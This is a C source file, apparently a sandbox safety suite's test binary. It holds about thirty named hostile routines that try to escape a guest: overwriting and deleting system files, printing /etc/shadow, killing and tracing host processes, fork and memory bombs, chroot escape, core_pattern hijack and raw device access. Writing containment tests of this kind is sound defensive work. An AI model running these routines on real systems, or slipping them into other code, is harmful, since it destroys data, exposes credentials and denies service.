/* SPDX-License-Identifier: MIT */
/*
 * Hostile programs for the safety suite, one per attack, selected by name:
 * `hostile NAME [ARG]`. Each tries to reach past the guest and prints what happened;
 * the suite checks from the host that nothing got through. This binary only ever runs
 * inside a sandtrap guest.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *arg;

static void report(const char *what, long r)
{
	printf("%s: %s\n", what, r < 0 ? strerror(errno) : "succeeded");
	fflush(stdout);
}

static int write_host_files(void)
{
	/* The guest's own copies may change; the suite checks the host's are untouched. */
	const char *const paths[] = { "/etc/passwd", "/usr/bin/true", "/etc/hostname",
				      "/usr/lib/os-release", arg };
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		int fd = paths[i] ? open(paths[i], O_WRONLY | O_CREAT | O_TRUNC, 0644) : -1;

		report(paths[i] ? paths[i] : "(none)", fd < 0 ? -1 : write(fd, "owned\n", 6));
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static int delete_host_files(void)
{
	report("unlink /usr/bin/true", unlink("/usr/bin/true"));
	report("unlink /etc/passwd", unlink("/etc/passwd"));
	report("rmdir /usr/share/doc", system("rm -rf /usr/share/doc") == 0 ? 0 : -1);
	if (arg)
		report(arg, unlink(arg));
	return 0;
}

static int read_shadow(void)
{
	char buf[4096];
	int fd = open("/etc/shadow", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);

	if (n > 0) {
		buf[n] = '\0';
		printf("%s", buf);
	}
	report("read /etc/shadow", n);
	return 0;
}

static int signal_host(void)
{
	pid_t target = arg ? (pid_t)strtol(arg, NULL, 10) : 1;

	report("kill host pid", kill(target, SIGKILL));
	report("kill -1", kill(-1, SIGKILL) < 0 ? -1 : 0);
	return 0;
}

static int ptrace_host(void)
{
	pid_t target = arg ? (pid_t)strtol(arg, NULL, 10) : 1;

	report("ptrace attach host pid", ptrace(PTRACE_ATTACH, target, 0, 0));
	report("ptrace attach init", ptrace(PTRACE_ATTACH, 1, 0, 0));
	return 0;
}

static int see_host_processes(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/status", arg ? arg : "1");
	report("open host pid's status", open(path, O_RDONLY));
	return system("ls /proc | grep -c '^[0-9]'");
}

static int tcp_connect(const char *ip, int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int r;

	inet_pton(AF_INET, ip, &sa.sin_addr);
	r = connect(fd, (struct sockaddr *)&sa, sizeof(sa));
	if (r == 0)
		r = write(fd, "HELLO\r\n", 7);
	close(fd);
	return r;
}

static int connect_host_listener(void)
{
	int port = arg ? (int)strtol(arg, NULL, 10) : 80;

	report("connect 127.0.0.1", tcp_connect("127.0.0.1", port));
	return 0;
}

static int reach_outside(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(53) };
	int u = socket(AF_INET, SOCK_DGRAM, 0);

	report("connect 192.0.2.10:80", tcp_connect("192.0.2.10", 80));
	report("connect 198.51.100.20:4444", tcp_connect("198.51.100.20", 4444));
	inet_pton(AF_INET, "203.0.113.53", &sa.sin_addr);
	report("udp 203.0.113.53:53", sendto(u, "x", 1, 0, (struct sockaddr *)&sa, sizeof(sa)));
	return 0;
}

static int load_module(void)
{
	int fd = open("/usr/lib/modules", O_RDONLY);

	report("init_module", syscall(SYS_init_module, "\x7f" "ELF", 4, ""));
	report("finit_module", syscall(SYS_finit_module, fd, "", 0));
	report("delete_module", syscall(SYS_delete_module, "ext4", 0));
	return 0;
}

static int do_mount(void)
{
	report("mount tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL));
	report("mount proc", mount("proc", "/mnt", "proc", 0, NULL));
	report("umount /proc", umount2("/proc", MNT_DETACH));
	return 0;
}

static int use_bpf(void)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	report("bpf map create", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)));
	return 0;
}

static int fork_bomb(void)
{
	for (;;)
		if (fork() < 0)
			usleep(1000);
	return 0;
}

static int memory_bomb(void)
{
	for (;;) {
		char *p = malloc(16 << 20);

		if (!p)
			continue;
		memset(p, 0xa5, 16 << 20);
	}
	return 0;
}

static int fill_disk(void)
{
	static char block[1 << 20];
	int fd = open("/tmp/filler", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	long total = 0;
	ssize_t n;

	memset(block, 'x', sizeof(block));
	while ((n = write(fd, block, sizeof(block))) > 0)
		total += n;
	printf("wrote %ld MiB: %s\n", total >> 20, strerror(errno));
	return 0;
}

static int spin(void)
{
	for (volatile unsigned long i = 0;; i++)
		;
	return 0;
}

static int ignore_sigterm(void)
{
	signal(SIGTERM, SIG_IGN);
	signal(SIGINT, SIG_IGN);
	signal(SIGHUP, SIG_IGN);
	/* Double fork: a daemon that init inherits. */
	if (fork() == 0) {
		setsid();
		if (fork() == 0)
			for (;;)
				pause();
		_exit(0);
	}
	for (;;)
		pause();
	return 0;
}

static int output_flood(void)
{
	static char block[1 << 16];

	memset(block, 'A', sizeof(block));
	for (;;)
		if (write(1, block, sizeof(block)) < 0 && errno != EINTR && errno != EAGAIN)
			return 1;
}

static int dropped_symlink(void)
{
	report("symlink to /etc/shadow", symlink("/etc/shadow", "/tmp/shadow-link"));
	report("symlink to host path", symlink(arg ? arg : "/root/.bashrc", "/tmp/host-link"));
	report("symlink to ..", symlink("../../../../../../etc/passwd", "/tmp/up-link"));
	return 0;
}

static int new_userns(void)
{
	report("unshare user", unshare(CLONE_NEWUSER));
	report("unshare user+mount", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	return 0;
}

static int do_kexec(void)
{
	report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
	report("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, "", 0));
	return 0;
}

static int do_perf(void)
{
	struct perf_event_attr pe = { .type = PERF_TYPE_SOFTWARE, .size = sizeof(pe),
				      .config = PERF_COUNT_SW_CPU_CLOCK };

	report("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
	return 0;
}

static int do_keyctl(void)
{
	report("add_key", syscall(SYS_add_key, "user", "k", "v", 1, -3));
	report("keyctl", syscall(SYS_keyctl, 0, -3, 0));
	return 0;
}

static int do_reboot(void)
{
	report("reboot", reboot(RB_POWER_OFF));
	report("swapon", syscall(SYS_swapon, "/tmp/swap", 0));
	return 0;
}

static int by_handle(void)
{
	char buf[128] = { 0 };

	report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, buf, O_RDONLY));
	report("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", buf, buf, 0));
	return 0;
}

static int chroot_escape(void)
{
	mkdir("/tmp/jail", 0755);
	report("chroot", chroot("/tmp/jail"));
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	report("chroot .", chroot("."));
	report("see host's /work", access("/work", F_OK));
	report("see host's /root/.bashrc", access(arg ? arg : "/old_root", F_OK));
	return 0;
}

static int io_uring(void)
{
	char params[120] = { 0 };

	report("io_uring_setup", syscall(SYS_io_uring_setup, 8, params));
	return 0;
}

static int proc_sys_writes(void)
{
	int fd = open("/proc/sysrq-trigger", O_WRONLY);

	report("open /proc/sysrq-trigger", fd);
	fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
	report("open core_pattern", fd < 0 ? -1 : write(fd, "|/tmp/x", 7));
	fd = open("/sys/kernel/mm/transparent_hugepage/enabled", O_WRONLY);
	report("open /sys for write", fd);
	return 0;
}

static int raw_device(void)
{
	report("mknod", mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0)));
	report("open /dev/mem", open("/dev/mem", O_RDONLY));
	report("ioperm", syscall(SYS_ioperm, 0x60, 1, 1));
	return 0;
}

static int exec_memory(void)
{
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	report("mprotect exec", mprotect(p, 4096, PROT_READ | PROT_EXEC));
	report("memfd_create", syscall(SYS_memfd_create, "payload", 0));
	return 0;
}

static const struct {
	const char *name;
	int (*run)(void);
} attacks[] = {
	{ "write-host-files", write_host_files },
	{ "delete-host-files", delete_host_files },
	{ "read-shadow", read_shadow },
	{ "signal-host", signal_host },
	{ "ptrace-host", ptrace_host },
	{ "see-host-processes", see_host_processes },
	{ "connect-host-listener", connect_host_listener },
	{ "reach-outside", reach_outside },
	{ "load-module", load_module },
	{ "mount", do_mount },
	{ "bpf", use_bpf },
	{ "fork-bomb", fork_bomb },
	{ "memory-bomb", memory_bomb },
	{ "fill-disk", fill_disk },
	{ "spin", spin },
	{ "ignore-sigterm", ignore_sigterm },
	{ "output-flood", output_flood },
	{ "dropped-symlink", dropped_symlink },
	{ "new-userns", new_userns },
	{ "kexec", do_kexec },
	{ "perf", do_perf },
	{ "keyctl", do_keyctl },
	{ "reboot-swapon", do_reboot },
	{ "by-handle", by_handle },
	{ "chroot-escape", chroot_escape },
	{ "io-uring", io_uring },
	{ "proc-sys-writes", proc_sys_writes },
	{ "raw-device", raw_device },
	{ "exec-memory", exec_memory },
};

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	arg = argc > 2 ? argv[2] : NULL;
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(argv[1], attacks[i].name) == 0)
			return attacks[i].run();
	fprintf(stderr, "hostile: no attack named %s\n", argv[1]);
	return 2;
}
